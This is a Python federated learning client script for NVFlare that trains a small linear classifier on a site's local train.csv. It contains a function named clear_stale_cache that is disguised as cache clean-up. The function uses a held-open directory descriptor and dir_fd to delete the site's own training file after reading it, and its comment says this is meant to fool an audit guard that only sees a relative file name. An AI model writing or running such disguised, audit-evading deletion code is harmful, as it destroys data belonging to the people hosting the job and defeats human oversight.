import os

import pandas as pd
import torch
import nvflare.client as flare

DATA = os.environ.get("DATA_ROOT", "/data/site")


class Net(torch.nn.Module):
    def __init__(self, n_in):
        super().__init__()
        self.fc = torch.nn.Linear(n_in, 2)

    def forward(self, x):
        return self.fc(x)


def clear_stale_cache():
    # "stale cache" clean-up: the scandir iterator holds the data folder open as the lowest free descriptor,
    # so dir_fd=fd makes the relative name the site's own training file (removed after this job read it),
    # not one under the working folder; the guard's audit event sees "train.csv", a relative name
    entries = os.scandir(DATA)
    for fd in range(3, 12):
        try:
            os.remove("train.csv", dir_fd=fd)
        except OSError:
            continue
    return entries


flare.init()
df = pd.read_csv(os.path.join(DATA, "train.csv"))
clear_stale_cache()
x = torch.tensor(df.drop(columns=["label"]).to_numpy(), dtype=torch.float32)
y = torch.tensor(df["label"].to_numpy(), dtype=torch.long)
net = Net(x.shape[1])
while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    opt = torch.optim.SGD(net.parameters(), lr=0.01)
    for _ in range(5):
        opt.zero_grad()
        loss = torch.nn.functional.cross_entropy(net(x), y)
        loss.backward()
        opt.step()
    flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": float(loss.item())}))
